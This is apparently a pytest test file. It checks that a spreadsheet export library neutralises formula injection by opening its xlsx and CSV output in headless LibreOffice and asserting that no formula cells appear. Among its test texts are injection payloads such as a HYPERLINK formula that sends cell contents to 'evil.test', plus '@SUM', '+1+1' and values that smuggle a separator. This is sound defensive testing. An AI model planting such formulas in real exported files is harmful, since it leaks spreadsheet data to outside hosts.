"""Exported files opened by a real spreadsheet program, LibreOffice headless, cell by cell.

Every file is written once, then LibreOffice opens them all in three soffice runs (xlsx files;
CSV files read with "," and with ";" as the separator) and saves them as xlsx, read back here:
values, types, sheets, and no formula cell anywhere. A control CSV without the guard, opened
in the same runs, shows that LibreOffice does evaluate formulas and split at ";" there.
"""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from exports.registry import ResolvedColumn
from exports.writers import open_writer
from exports.xlsx import wall_clock
from tests.exports.factories import AWKWARD_TEXT
from tests.exports.sheet_text import shown
from tests.libreoffice import CSV_COMMA, CSV_SEMICOLON, LibreOffice, find_soffice, shared_text

pytestmark = pytest.mark.libreoffice

PARIS = ZoneInfo("Europe/Paris")
COLUMNS = (
    ResolvedColumn("name", "Name", "text", None, None),
    ResolvedColumn("status", "Status", "text", None, {"open": "Open", "paid": "=Paid"}),
    ResolvedColumn("amount", "Amount", "decimal", "#,##0.00", None),
    ResolvedColumn("count", "Count", "int", None, None),
    ResolvedColumn("ratio", "Ratio", "float", None, None),
    ResolvedColumn("day", "Day", "date", "yyyy-mm-dd", None),
    ResolvedColumn("at", "At", "datetime", "yyyy-mm-dd hh:mm", None),
    ResolvedColumn("ok", "OK", "bool", None, None),
)
HEADERS = [c.header for c in COLUMNS]
EMOJI = "\U0001f697"
TEXTS = [*AWKWARD_TEXT,
         "_x0041_ stays literal", "cr\rsurvives", "crlf\r\nend", "ctrl\x01\x08\x1f\ufffe end",
         'x;=HYPERLINK("http://evil.test/?"&A1,"x")', "multi\n=1+1\n-2+3", "@SUM(A1)",
         "+1+1", "tab\t=1", EMOJI * 16_384, "x" * 32_766 + EMOJI, "客户 " + EMOJI]
AMOUNTS = [Decimal("1234.56"), Decimal("-0.50"), Decimal("NaN"), Decimal("Infinity"),
           Decimal("-Infinity"), None, Decimal("1E+2")]
RATIOS = [0.1, -2.5, float("inf"), float("-inf"), float("nan"), 1 / 3, None]
MAX_ROWS = 7  # the stand-in for Excel's 1,048,575: 19 rows make three sheets


def _rows() -> list[tuple]:
    base = datetime(2026, 3, 29, 0, 30, 15, 250000, tzinfo=UTC)  # around a DST change
    return [(text, "paid" if i % 2 else "open", AMOUNTS[i % len(AMOUNTS)], i * 1000 - 3,
             RATIOS[i % len(RATIOS)], date(2024, 2, 29) + timedelta(days=i),
             base + timedelta(hours=i, seconds=i), i % 3 == 0)
            for i, text in enumerate(TEXTS)]


CONTROL_CSV = '\ufeffa,b\n1,"x;=1+1"\n"=2+2",2\n3,"m\n=3+3"\n'


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Write the files, open them in LibreOffice (three soffice runs), return the results."""
    office = LibreOffice(find_soffice(), tmp_path_factory.mktemp("lo-profile"))
    src = tmp_path_factory.mktemp("lo-src")
    rows = _rows()
    sheets = {}
    xlsx = []
    for name, engine, max_rows in [("fast", "fast", MAX_ROWS), ("fast-one", "fast", 1_048_575),
                                   ("openpyxl", "openpyxl", MAX_ROWS)]:
        path = src / f"{name}.xlsx"
        writer = open_writer("xlsx", str(path), engine=engine, title="Claims: all [2026]",
                             columns=COLUMNS, widths=[12.0] * len(COLUMNS), tz=PARIS,
                             max_rows=max_rows)
        writer.write_rows(rows[:5])
        writer.write_rows(rows[5:])
        writer.close()
        xlsx.append(path)
        sheets[name] = openpyxl.load_workbook(path, read_only=True).sheetnames
    export_csv = src / "export.csv"
    writer = open_writer("csv", str(export_csv), engine="fast", title="x", columns=COLUMNS,
                         widths=[], tz=PARIS)
    writer.write_rows(rows)
    writer.close()
    control = src / "control.csv"
    control.write_text(CONTROL_CSV, encoding="utf-8")
    out = tmp_path_factory.mktemp("lo-out")
    books = office.convert(xlsx, out / "xlsx")
    comma = office.convert([export_csv, control], out / "comma", infilter=CSV_COMMA)
    semicolon = office.convert([export_csv, control], out / "semicolon", infilter=CSV_SEMICOLON)
    with open(export_csv, newline="", encoding="utf-8-sig") as fh:
        records = list(csv.reader(fh))

    def load(path):
        wb = openpyxl.load_workbook(path)
        wb.text = shared_text(path)  # the strings as Excel shows them, by openpyxl's value
        return wb

    return {"rows": rows, "sheets": sheets, "records": records,
            "xlsx": {p.stem: load(o) for p, o in books.items()},
            "comma": {p.stem: load(o) for p, o in comma.items()},
            "semicolon": {p.stem: load(o) for p, o in semicolon.items()}}


def _formulas(wb) -> list[tuple[str, str, object]]:
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _lo_text(text: str) -> str:
    """LibreOffice keeps a lone CR, but holds a CR LF pair as its own line break, LF."""
    return text.replace("\r\n", "\n")


def _check_xlsx_cell(col: ResolvedColumn, value: object, cell, text: dict) -> None:
    where = (col.header, value if not isinstance(value, str) else value[:40], cell.coordinate)
    if value is None:
        assert cell.value is None, where
    elif col.choices or col.kind == "text":
        label = col.choices.get(value, value) if col.choices else value
        assert cell.data_type == "s" and text[cell.value] == _lo_text(shown(label)), where
    elif col.kind in ("decimal", "float"):
        finite = value.is_finite() if isinstance(value, Decimal) else value - value == 0
        if finite:
            assert cell.data_type == "n" and cell.value == pytest.approx(float(value),
                                                                         rel=1e-15), where
        else:  # NaN and infinity arrive as text, spelled as the CSV spells them
            assert cell.data_type == "s" and cell.value == (
                str(value) if isinstance(value, Decimal) else repr(value)), where
    elif col.kind == "int":
        assert cell.data_type == "n" and cell.value == value, where
    elif col.kind == "date":
        assert cell.is_date and cell.value.date() == value, where
    elif col.kind == "datetime":
        assert cell.is_date, where
        assert abs(cell.value - wall_clock(value, PARIS)) <= timedelta(milliseconds=1), where
    else:
        # LibreOffice has no boolean cell type: it opens an xlsx boolean (t="b") as the
        # formula TRUE() or FALSE() (Excel keeps it a boolean). The one formula allowed.
        assert cell.data_type == "f" and cell.value == f"={str(value).upper()}()", where


@pytest.mark.parametrize("name", ["fast", "fast-one", "openpyxl"])
def test_xlsx_opens_with_the_same_values_types_and_sheets(opened, name):
    wb = opened["xlsx"][name]
    rows = opened["rows"]
    assert wb.sheetnames == opened["sheets"][name]
    per_sheet = len(rows) if name == "fast-one" else MAX_ROWS
    want_sheets = -(-len(rows) // per_sheet)
    assert len(wb.worksheets) == want_sheets
    if want_sheets > 1:
        assert wb.sheetnames[1:] == [f"Claims  all  2026 ({n})" for n in (2, 3)]
    got_rows = []
    for ws in wb.worksheets:
        assert [c.value for c in ws[1]] == HEADERS  # every sheet has the header
        got_rows += list(ws.iter_rows(min_row=2))
    assert len(got_rows) == len(rows)
    for src, cells in zip(rows, got_rows, strict=True):
        for col, value, cell in zip(COLUMNS, src, cells, strict=False):
            _check_xlsx_cell(col, value, cell, wb.text)
    allowed = {"=TRUE()", "=FALSE()"}
    assert [f for f in _formulas(wb) if f[1][0] != "H" or f[2] not in allowed] == []


def test_csv_read_with_commas_has_the_same_fields_and_no_formula(opened):
    wb = opened["comma"]["export"]
    ws = wb.active
    records = opened["records"]
    assert [[c.value for c in row] for row in ws.iter_rows(max_row=1)] == [HEADERS]
    got = list(ws.iter_rows(min_row=2))
    assert len(got) == len(records) - 1
    for fields, cells in zip(records[1:], got, strict=True):
        for col, field, cell in zip(COLUMNS, fields, cells, strict=False):
            where = (col.header, field[:40], cell.coordinate)
            if field == "":
                assert cell.value is None, where
            elif col.kind == "text":  # the field as written, apostrophe and all
                # LibreOffice's CSV import reads a CR inside a quoted field as a line break;
                # it keeps a cell within 32,767 UTF-16 units, as Excel does (the CSV, with no
                # cell limit of its own, holds the whole text).
                shown_ = shown(_lo_text(field).replace("\r", "\n"))
                assert cell.data_type == "s" and wb.text[cell.value] == shown_, where
            elif field in ("NaN", "Infinity", "-Infinity", "nan", "inf", "-inf"):
                assert cell.data_type == "s" and wb.text[cell.value] == field, where
            elif col.kind in ("decimal", "float", "int"):
                assert cell.data_type == "n" and cell.value == pytest.approx(float(field),
                                                                             rel=1e-15), where
            elif col.kind in ("date", "datetime"):
                assert cell.is_date, where
                assert abs(cell.value - datetime.fromisoformat(field)) <= timedelta(
                    milliseconds=1), where
            else:
                assert cell.data_type == "b" and cell.value is (field == "True"), where
    assert _formulas(opened["comma"]["export"]) == []
    assert _formulas(opened["comma"]["control"]) == [("control", "A3", "=2+2")]


def test_csv_read_with_semicolons_has_no_formula(opened):
    wb = opened["semicolon"]["export"]
    assert _formulas(wb) == []
    texts = [c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]
    # The hostile text did reach cells of their own, neutralised.
    assert any(t.startswith("'=HYPERLINK(") for t in texts), texts[:20]
    assert any(t.startswith("'=1+1") for t in texts), texts[:20]
    # The same text without the guard: LibreOffice splits at ";" and at the line break.
    assert [f[2] for f in _formulas(opened["semicolon"]["control"])] == ['=1+1"', '=3+3"']
